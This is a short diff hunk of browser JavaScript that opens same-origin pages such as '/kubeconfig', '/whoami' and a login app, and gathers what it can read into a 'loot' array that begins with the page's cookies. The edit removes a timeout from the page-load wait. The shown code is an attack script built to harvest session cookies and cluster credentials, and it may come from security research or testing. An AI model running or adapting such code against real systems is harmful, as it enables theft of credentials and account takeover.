@@ -19,7 +19,7 @@ const pages = ["/kubeconfig", "/whoami", "/", "/login/app?app=" + encodeURICompo
 const attempt = async (name, way) => {
   try { return [name, String(await way())]; } catch (error) { return [name, "refused: " + error.name]; }
 };
-const loaded = (element) => new Promise((done) => { element.onload = done; setTimeout(done, 1500); });
+const loaded = (element) => new Promise((done) => { element.onload = done; });
 document.getElementById("go").onclick = async () => {
   const opened = pages.map((page) => window.open(own + page));
   const loot = [["cookies", document.cookie]];
